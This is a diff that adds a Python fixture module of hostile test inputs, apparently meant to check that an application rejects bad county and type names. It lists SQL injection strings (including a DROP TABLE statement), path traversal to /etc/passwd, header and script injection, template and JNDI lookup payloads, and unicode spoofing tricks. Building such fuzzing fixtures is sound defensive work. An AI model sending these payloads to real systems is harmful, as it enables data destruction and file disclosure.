@@ -1,0 +1,55 @@
+"""Words that mean something elsewhere: to SQL, to a file system, to HTTP, to a browser."""
+
+from __future__ import annotations
+
+WORDS = {
+    "sql that ends": "'; DROP TABLE market_analysis_jobs; --",
+    "sql that is true": "' OR '1'='1",
+    "sql that sleeps": "1; SELECT pg_sleep(60)",
+    "like": "%_\\",
+    "up": "../../../etc/passwd",
+    "up, encoded": "..%2f..%2fetc%2fpasswd",
+    "up, encoded twice": "%252e%252e%252f",
+    "up, of windows": "..\\..\\windows",
+    "from the root": "/etc/passwd",
+    "url": "file:///etc/passwd",
+    "nul": "king_wa\0.parquet",
+    "lines": "x\r\nSet-Cookie: a=b\r\n\r\n<p>",
+    "html": '"><script>alert(1)</script>',
+    "template": "{{7*7}}${7*7}#{7*7}",
+    "format": "%s%n{0}{self}",
+    "lookup": "${jndi:ldap://elsewhere.example/x}",
+    "json": '{"$ne": null}',
+    "long": "x" * 5000,
+    "wide": "\uff4b\uff49\uff4e\uff47\uff3f\uff57\uff41",
+    "another alphabet": "k\u0456ng_wa",
+    "backwards": "\u202ewa_gnik",
+    "slash that is none": "..\u2215etc",
+    "empty": "",
+    "blank": " \t ",
+    "number": "9" * 400,
+    "not finite": "1e999",
+}
+
+PARTS = (
+    *(word for name, word in WORDS.items() if name != "not finite"),
+    ".",
+    "..",
+    "a/b",
+    "a\\b",
+    "%2e%2e",
+    "\0",
+    "a" * 101,
+    ".hidden",
+    "-option",
+    "_a",
+    "a b",
+    "a\n",
+    "a\u0301",
+    "ä",
+    "c:a",
+    "a*",
+    "a?b",
+    "a#b",
+)
+"""None of them is the name of a county or a type."""
